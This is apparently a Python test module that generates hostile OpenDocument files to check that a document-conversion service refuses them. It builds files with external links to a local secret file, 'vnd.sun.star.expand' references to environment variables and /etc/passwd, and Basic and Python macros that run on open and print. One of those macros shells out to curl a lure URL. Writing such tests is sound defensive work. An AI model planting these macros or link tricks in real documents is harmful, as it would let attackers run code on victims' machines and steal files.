"""OpenDocument texts that mean harm."""

from pathlib import Path

from tests.hostile.case import Case, Lures
from tests.hostile.cases.documents_parts import case, flat, linking, office, open_text

SAID = "MACRO-RAN"


def _elsewhere(lures: Lures) -> tuple[str, ...]:
    return lures.secret.as_uri(), f"{lures.url}/a.odt", f"//127.0.0.1:{lures.port}/b", str(lures.secret)


def flat_with_links(path: Path, lures: Lures) -> None:
    """A flat text that is made of others."""
    path.write_text(flat(linking(*_elsewhere(lures))))


def text_with_links(path: Path, lures: Lures) -> None:
    """A text that is made of others."""
    path.write_bytes(open_text(linking(*_elsewhere(lures))))


def text_of_the_environment(path: Path, _: Lures) -> None:
    """Addresses in which LibreOffice would put its environment."""
    names = ("$HOSTILE_CANARY", "${HOSTILE_CANARY}", "$PATH", "${file:///etc/passwd:::root}")
    schemes = ("vnd.sun.star.expand:", "vnd.sun.star.expand:file:///")
    path.write_bytes(open_text(linking(*(f"{scheme}{name}" for scheme in schemes for name in names))))


def text_with_macros(path: Path, lures: Lures) -> None:
    """Macros in two languages that run when it is opened, and leave a word in the text."""
    addresses = ("Standard.Evil.Main?language=Basic", "evil.py$main?language=Python")
    events = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{name}" '
        f'xlink:href="vnd.sun.star.script:{address}&amp;location=document" xlink:type="simple"/>'
        for address in addresses
        for name in ("dom:load", "office:load-finished", "office:print")
    )
    basic = (
        f'Sub Main\nThisComponent.Text.String = "{SAID[:5]}" &amp; "{SAID[5:]}"\n'
        f'Shell("/usr/bin/env curl {lures.url}")\nOpen "{lures.secret}" For Append As #1\nEnd Sub\n'
    )
    python = (
        f'def main(*_):\n    document = XSCRIPTCONTEXT.getDocument()\n    document.Text.String = "{SAID}"\n'
    )
    module = '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">'
    library = 'xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"'
    more = {
        "Basic/script-lc.xml": f'<library:libraries {library}><library:library library:name="Standard" '
        'library:link="false"/></library:libraries>',
        "Basic/Standard/script-lb.xml": f'<library:library {library} library:name="Standard" '
        'library:readonly="false"><library:element library:name="Evil"/></library:library>',
        "Basic/Standard/Evil.xml": f'{module}<script:module xmlns:script="http://openoffice.org/2000/script" '
        f'script:name="Evil" script:language="StarBasic">{basic}</script:module>',
        "Scripts/python/evil.py": python,
    }
    scripts = f"<office:scripts><office:event-listeners>{events}</office:event-listeners></office:scripts>"
    path.write_bytes(open_text("<text:p>Text</text:p>", events=scripts, more=more))


CASES: tuple[Case, ...] = (
    office("H081", "a flat OpenDocument text", flat_with_links, "links.fodt", "pdf", "input_not_allowed"),
    office("H081", "a flat OpenDocument text called text", flat_with_links, "links.txt", "docx"),
    office("H081", "a flat OpenDocument text called page", flat_with_links, "links.html", "docx"),
    office("H081", "an ODT made of linked files", text_with_links, "links.odt", "docx"),
    case("H081", "an ODT made of linked files, for the web", text_with_links, "links.odt", "html"),
    office("H084", "an ODT whose macros run at once", text_with_macros, "macros.odt", "txt",
        absent=(SAID.encode(),)),
    office("H087", "an ODT that asks for the environment", text_of_the_environment, "env.odt", "docx"),
    office("H087", "an ODT that asks for the environment, for the web", text_of_the_environment, "env.odt",
        "html", "completed", "tool_error"),
)  # fmt: skip
